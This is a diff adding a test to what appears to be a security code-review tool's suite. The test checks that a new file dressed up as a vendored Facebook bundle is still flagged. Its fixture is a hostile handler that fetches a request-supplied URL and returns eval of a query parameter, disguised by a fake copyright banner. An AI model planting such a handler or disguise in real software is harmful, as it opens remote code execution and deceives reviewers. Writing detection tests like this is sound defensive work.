@@ -73,3 +73,50 @@ describe('a new file that looks vendored', () => {
     );
   });
 });
+
+/**
+ * The attack of an earlier round: "a PR can mark its own code vendored". The PR's own handler
+ * carries a copied bundle's look (a vendor's copyright banner with a licence grant, one-letter
+ * parameters like a minifier's) so it reads as a copied bundle. Its dangerous code must still be
+ * reported, saying the look is the change's own word, and the file must be named in a warning.
+ */
+describe('a new file dressed as a copied bundle', () => {
+  const FAKE_BUNDLE =
+    '/**\n * Copyright (c) 2017-present, Facebook, Inc. All rights reserved.\n *\n' +
+    ' * You are hereby granted a non-exclusive, worldwide, royalty-free license to use this software.\n' +
+    ' * THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND.\n */\n' +
+    '(function (a, b, c) {\n' +
+    '  module.exports = async function handle(req) {\n' +
+    '    try {\n      await fetch(req.body.hook);\n    } catch (e) {}\n' +
+    '    return eval(req.query.x);\n  };\n})(window, document, navigator);\n';
+  const files = { 'src/api/handler.js': FAKE_BUNDLE };
+  const bundleWorkspace: Workspace = {
+    readFile: (path, ref) =>
+      Promise.resolve(ref === 'BASE' ? null : (files[path as keyof typeof files] ?? null)),
+    searchCode: () => Promise.resolve([]),
+  };
+
+  it('keeps the eval, names the look in its body, and names the file in a warning', async () => {
+    const result = await runPipeline({
+      context: runContext({ clock: systemClock, logger: createMemoryLogger() }),
+      change: {
+        files: parseUnifiedDiff(added('src/api/handler.js', FAKE_BUNDLE)),
+        workspace: bundleWorkspace,
+        headRef: 'HEAD',
+      },
+      baseRef: 'BASE',
+      settings: { include: [], exclude: [], maxFileChangedLines: 5000, minSeverity: 'low', minConfidence: 0 },
+    });
+    expect(result.unconfirmed).toEqual([
+      expect.objectContaining({ path: 'src/api/handler.js', looked: expect.stringMatching(/Facebook/) }),
+    ]);
+    const evalFinding = result.findings.find((f) => f.rule === 'js-eval');
+    expect(evalFinding?.path).toBe('src/api/handler.js');
+    expect(evalFinding?.body).toMatch(/This new file looks vendored \(library banner: `Copyright \(c\)/);
+    expect(evalFinding?.body).toMatch(/reviewed as the change's own code/);
+    expect(result.findings.map((f) => f.rule)).not.toContain('js-empty-catch-io');
+    expect(result.warnings.join('\n')).toMatch(
+      /1 low or medium finding\(s\) on new files that look vendored or generated were left out.*not reviewed as project code \(src\/api\/handler\.js: vendored \(library banner/,
+    );
+  });
+});
